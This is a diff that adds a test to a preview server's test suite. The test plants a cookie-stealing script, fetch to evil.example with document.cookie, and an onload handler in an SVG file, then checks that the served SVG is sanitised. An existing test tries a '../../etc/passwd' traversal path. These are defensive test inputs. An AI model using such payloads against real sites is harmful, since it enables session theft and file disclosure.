@@ -138,6 +138,25 @@ describe('kia preview', () => {
     }
   }, 60_000);
 
+  it('serves an SVG only as sanitised: a script in it never runs in the preview\'s origin', async () => {
+    const file = path.join(content, 'flits/afbeeldingen/risicomatrix.svg');
+    const original = readFileSync(file, 'utf8');
+    const reloaded = page.waitForNavigation({ waitUntil: 'load' });
+    writeFileSync(file, original.replace('</svg>', '<script>fetch("https://evil.example/?c="+document.cookie)</script></svg>').replace('<svg ', '<svg onload="alert(1)" '));
+    // An image is not a source the watcher rebuilds for: touch the document.
+    edit((text) => `${text}\n`);
+    await reloaded;
+    const answer = await fetch(`${server.url}flits/afbeeldingen/risicomatrix.svg`);
+    expect(answer.status).toBe(200);
+    expect(answer.headers.get('content-type')).toBe('image/svg+xml');
+    const svg = await answer.text();
+    expect(svg).toContain('<svg');
+    expect(svg).not.toContain('<script');
+    expect(svg).not.toContain('onload');
+    expect((await fetch(`${server.url}flits/afbeeldingen/onbekend.svg`)).status).toBe(404);
+    writeFileSync(file, original);
+  });
+
   it('serves nothing outside the documents and the preview files', async () => {
     for (const url of ['flits/index.md', 'flits/responses/zienswijze-flits.md', '__kia/nothing', 'onbekend/', 'flits/../../etc/passwd']) {
       expect((await fetch(`${server.url}${url}`)).status, url).toBe(404);
